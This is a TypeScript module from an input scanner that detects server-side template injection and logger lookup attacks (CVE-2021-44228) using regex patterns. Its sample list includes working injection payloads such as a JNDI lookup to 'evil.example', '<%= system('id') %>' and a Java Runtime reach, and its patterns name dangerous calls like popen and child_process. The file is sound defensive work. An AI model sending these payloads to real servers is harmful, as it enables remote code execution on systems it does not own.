import { type AttackClass, everywhere, type Subject } from "../attack-class.ts";
import { withoutCode, withoutCodeElements } from "../code-spans.ts";
import { hasSentence } from "../sentence.ts";
import { trait } from "../traits.ts";

/** How template engines begin an expression, and how each ends. */
const openings =
  /\{\$\{|\$\{\{?|#\{|\*\{|%\{|@\{|@\(|\{\{[{#=]?|\{%|<%[=#]?|<#|\{php\}|\[\[\$|\{(?=['"\d\w(]{1,40}[(*])/g;
const maxExpressions = 50;
const maxLength = 400;

/** Look-ups of a logging library, plain or taken apart (CVE-2021-44228). */
const lookup = /\$\{(?:jndi|[^}$:]{0,30}:[^}$:]{0,30}:-|\$\{[^}$:]{0,30}:)/i;
/** What an expression names when it wants more than a value, by the language behind the engine. */
const reaches: readonly RegExp[] = [
  // Python and Ruby
  /__[a-z]{2,30}__|\\x5f|\bpopen\b|\bimport\s{1,4}os\b|\|\s{0,4}attr\b|\bcycler\b|\blipsum\b|\bjoiner\b|SECRET|request\.(?:application|server)|File\.(?:open|read)|%x[|({[]/,
  // Java
  /\bgetClass\b|\.class\b|forName|getRuntime|\bT\s{0,4}\(|\bnew\s{1,4}java|\bRuntime\b|ProcessBuilder|\bOgnl|#_memberAccess|#_=|#dm\s{0,4}=|Scanner\s{0,4}\(|Execute\b|\.inspect\s{0,4}\(/,
  // JavaScript, PHP and C#
  /constructor\b|child_process|mainModule|\brequire\s{0,4}\(|\b(?:system|exec|execSync|eval)\s{0,4}\(|['"](?:exec|system|passthru|id)['"]|registerUndefined|string\.sub|\b_self\b|Diagnostics\.Process/,
];
const arithmetic = /^\W{0,6}(?:\d{1,9}|['"]\d{1,9}['"])\s{0,4}[*+/-]\s{0,4}(?:\d{1,9}|['"]\d{1,9}['"])\W{0,6}$/;
const tellingName = /^\W{0,4}(?:config|self|settings|env|app|request|debug|dump|namespace|url_for|get_flashed)(?:\W|$)/;
/** Server-side and edge-side includes, directives, and class look-ups without an opening. */
const directive =
  /<!--#\s{0,4}(?:exec|include|echo|printenv)|<esi:\w|#set\s{0,4}\(\s{0,4}\$|\$class\.inspect|\.getRuntime\s{0,4}\(\)|\{php\}/i;

/** Expressions of template engines and loggers, which run on the server. */
export const template: AttackClass = {
  name: "template",
  summary: "Gives a template engine or a logger an expression to evaluate on the server.",
  stops: ["CWE-1336", "CWE-94", "CWE-917", "CWE-97", "A03:2021"],
  places: everywhere,
  suspects: (traits) => (traits & (trait.brace | trait.dollar | trait.at | trait.angle)) !== 0,
  judge(subject) {
    const { profile } = subject;
    const text = profile === "typed" ? subject.text : withoutCodeElements(withoutCode(subject.text));
    if (lookup.test(text) && (profile === "typed" || isShort(text))) return 6;
    if (directive.test(text) && (profile === "typed" || isShort(text))) return 6;
    let score = 0;
    let left = maxExpressions;
    for (const opening of text.matchAll(openings)) {
      if (score >= 5 || left-- === 0) break;
      score = Math.max(score, scoreExpression(text, opening.index, opening[0], subject));
    }
    return score;
  },
  found: [
    "{{7*7}}",
    "${7*7}",
    "<%= system('id') %>",
    "{{config.items()}}",
    "{{''.__class__.__mro__}}",
    "${jndi:ldap://evil.example/a}",
    "${T(java.lang.Runtime).getRuntime()}",
  ],
  spared: [
    "{{ name }}",
    "Dear ${name},",
    "<%= user.name %>",
    "{% for item in items %}",
    "a {b} c",
    "#{id}",
    "{ color: red }",
    "query { user(id: 1) { name } }",
  ],
};

function scoreExpression(text: string, at: number, opening: string, { profile }: Subject): number {
  const inside = text.slice(at + opening.length, at + opening.length + maxLength);
  const end = inside.search(/[}%]\}|%>|\}|\)$/);
  const expression = end < 0 ? inside : inside.slice(0, end + 1);
  const isAll = text.trim().length <= expression.length + opening.length + 4;
  if (profile !== "typed" && !isShort(text)) return 0;
  if (reaches.some((pattern) => pattern.test(expression))) return opening === "{" && profile !== "typed" ? 3 : 6;
  if (arithmetic.test(expression.replace(/[}%)>]{1,4}$/, ""))) return profile === "typed" || isAll ? 5 : 2;
  if (opening === "{") return 0;
  if (opening === "{${" && profile === "typed") return 5;
  if (/^\{\{|^\{%/.test(opening) && tellingName.test(expression)) return profile === "typed" || isAll ? 5 : 2;
  if (/\|\s{0,4}(?:filter|map|join|reduce|sort)\s{0,4}\(/.test(expression)) return profile === "typed" || isAll ? 5 : 2;
  if (/<%|\{%\[|['"]\}\}%/.test(expression) && profile === "typed") return 5;
  return 1;
}

/** An expression by itself, not in the middle of a program or an article. */
function isShort(text: string): boolean {
  const { length } = text.trim();
  return length <= 300 && text.trim().split(/\s+/).length <= 40 && !hasSentence(text, 4);
}
